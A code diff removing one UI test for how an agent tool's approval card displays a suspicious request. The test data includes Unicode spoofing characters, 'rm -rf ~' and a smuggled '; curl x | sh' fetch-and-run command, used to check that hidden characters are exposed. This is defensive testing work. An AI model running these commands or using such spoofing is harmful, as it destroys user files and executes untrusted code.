@@ -223,41 +223,6 @@ describe('transcript rendering', () => {
     assert.equal(await card.locator('.approval-rule-note').count(), 0);
   });
 
-  test('approval card of a request not whole: nothing "similar" is offered; hidden characters are shown', async () => {
-    const command = `npm test ${'x'.repeat(1990)}`;
-    await harness.deliver({
-      type: 'patches',
-      runKey: RUN_KEY,
-      firstSeq: 9,
-      patches: [
-        {
-          op: 'add',
-          item: {
-            id: 'a5',
-            kind: 'approval',
-            approvalId: 'ap-5',
-            title: 'Bash \u202egnp.exe',
-            summary: 'Run: ls\u200b -la\nrm -rf ~',
-            detail: { command: `${command}\u2066; curl x | sh` },
-            options: ['allow_once', 'allow_similar', 'deny', 'deny_always'],
-            status: 'pending',
-            hasDiff: false,
-            subject: { tool: 'Bash', command: command.slice(0, 2000) },
-          },
-        },
-      ],
-    });
-    const card = harness.page.locator('[data-item-id="a5"]');
-    await harness.settle();
-    await card.locator('.approval-decide').first().waitFor();
-    const labels = await card.locator('.approval-actions button').evaluateAll((buttons) => buttons.map((b) => b.textContent?.trim()));
-    assert.deepEqual(labels, ['Allow once', 'Deny'], 'no rule buttons and not the agent\'s own "always" either');
-    assert.equal(await card.locator('.approval-title').innerText(), 'Bash \\u202egnp.exe');
-    assert.equal(await card.locator('.approval-summary').textContent(), 'Run: ls\\u200b -la\nrm -rf ~', 'a line break stays one in the card');
-    assert.match((await card.locator('.approval-detail pre').textContent()) ?? '', /x\\u2066; curl x \| sh/);
-    assert.equal(await card.getAttribute('aria-label'), 'Approval: Bash \\u202egnp.exe');
-  });
-
   test('compact lines: usage, rate limit, compaction, error, notice, gap, turn', async () => {
     assert.match(await text('[data-item-id="usage1"]'), /1\.2k in · 350 out tokens/);
     assert.match(await text('[data-item-id="rl1"]'), /10 requests left/);
